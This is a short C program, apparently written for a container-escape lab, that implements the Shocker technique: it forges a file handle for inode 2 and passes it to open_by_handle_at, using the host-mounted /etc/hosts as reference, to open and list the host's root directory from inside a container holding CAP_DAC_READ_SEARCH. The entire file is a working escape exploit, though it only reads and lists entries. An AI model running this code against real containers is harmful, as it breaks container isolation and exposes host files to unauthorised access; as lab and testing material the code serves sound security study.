/* Read-only Shocker-style probe for the escape lab: opens inode 2 (the root of an ext4 file system) by handle,
 * using a file the runtime bind-mounts from the host (/etc/hosts) as the mount reference, and lists it.
 * Needs CAP_DAC_READ_SEARCH. Written for this lab; it changes nothing. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

struct handle8 { unsigned int handle_bytes; int handle_type; unsigned char f_handle[8]; };

int main(int argc, char **argv) {
    const char *reference = argc > 1 ? argv[1] : "/etc/hosts";
    int mount_fd = open(reference, O_RDONLY);
    if (mount_fd < 0) { perror("open reference"); return 2; }
    struct handle8 handle = { 8, 1, { 2, 0, 0, 0, 0, 0, 0, 0 } };
    int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, (struct file_handle *)&handle, O_RDONLY | O_DIRECTORY);
    if (fd < 0) { perror("open_by_handle_at"); return 1; }
    DIR *dir = fdopendir(fd);
    if (!dir) { perror("fdopendir"); return 1; }
    struct dirent *entry;
    int shown = 0;
    while ((entry = readdir(dir)) != NULL && shown < 20) { printf("%s\n", entry->d_name); shown++; }
    closedir(dir);
    return 0;
}
